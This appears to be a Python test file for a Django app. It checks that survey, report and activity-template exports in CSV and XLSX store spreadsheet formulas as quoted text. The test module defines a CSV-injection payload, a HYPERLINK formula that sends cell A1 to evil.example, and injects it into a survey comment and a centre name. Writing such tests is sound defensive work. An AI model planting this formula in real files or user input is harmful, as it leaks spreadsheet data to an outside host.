"""Every CSV and XLSX the system writes keeps a hostile text as text (formatting.cells.safe_cell)."""

import io

import pytest
from django.urls import reverse
from freezegun import freeze_time
from openpyxl import load_workbook

from activity.tests.conftest import YEAR as ACTIVITY_YEAR
from frameworks.models import Framework
from reports.importing import import_reports
from surveys import services
from surveys.models import CampaignMode, Invitation
from surveys.tests.conftest import YEAR as SURVEY_YEAR
from surveys.tests.conftest import answer, make_campaign, trainee_values

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _cells(content):
    workbook = load_workbook(io.BytesIO(content))
    return [c for ws in workbook.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]


def _assert_quoted(cells):
    hostile = [c for c in cells if "HYPERLINK" in c.value]
    assert hostile, "the hostile value is not in the file"
    for cell in hostile:
        assert cell.data_type == "s" and cell.value.startswith("'=")


@pytest.fixture
def hostile_answers(eddie):
    campaign = make_campaign(eddie, mode=CampaignMode.PERSONAL)
    services.add_invitations(eddie, campaign, ["a@example.bg"])
    answer(campaign, {**trainee_values(4), "comment": FORMULA}, invitation=Invitation.objects.get())
    return campaign


def _survey_export(client, fmt):
    """Ask for the survey export (an export job, run at once in tests) and download its file."""
    asked = client.post(reverse("surveys:export", args=["trainee", SURVEY_YEAR, fmt]))
    assert asked.status_code == 302
    job_id = asked.url.rstrip("/").split("/")[-1]
    download = client.get(reverse("exports:download", args=[job_id]))
    assert download.status_code == 200
    return b"".join(download.streaming_content) if download.streaming else download.content


def test_survey_csv_export_quotes_a_formula(hostile_answers, erin, client_for):
    text = _survey_export(client_for(erin), "csv").decode("utf-8-sig")
    assert "'=HYPERLINK" in text and ",=HYPERLINK" not in text and ";=HYPERLINK" not in text


def test_survey_xlsx_export_quotes_a_formula(hostile_answers, erin, client_for):
    _assert_quoted(_cells(_survey_export(client_for(erin), "xlsx")))


@freeze_time("2025-03-01 12:00:00")
def test_analysis_reports_xlsx_quotes_a_formula_in_a_centre_name(centre_a, adam, client_for):
    centre_a.name = FORMULA
    centre_a.save()
    codes = list(Framework.objects.for_report("CPO", 2024).criteria.all())
    header = ",".join(["licence_number", "submitted_at", *(c.code for c in codes)])
    row = ",".join(
        [centre_a.licence_number, "2025-01-20T10:00", *(format(c.max_points.normalize(), "f") for c in codes)]
    )
    import_reports((header + "\n" + row + "\n").encode(), year=2024, kind="CPO", actor=adam)
    response = client_for(adam).get(reverse("analysis:reports_xlsx", args=[2024]))
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    _assert_quoted(_cells(content))


def test_activity_template_quotes_a_formula_in_a_centre_name(centre_a, dora, client_for):
    centre_a.name = FORMULA
    centre_a.save()
    response = client_for(dora).get(reverse("activity:template", args=[centre_a.pk, ACTIVITY_YEAR]))
    _assert_quoted(_cells(response.content))
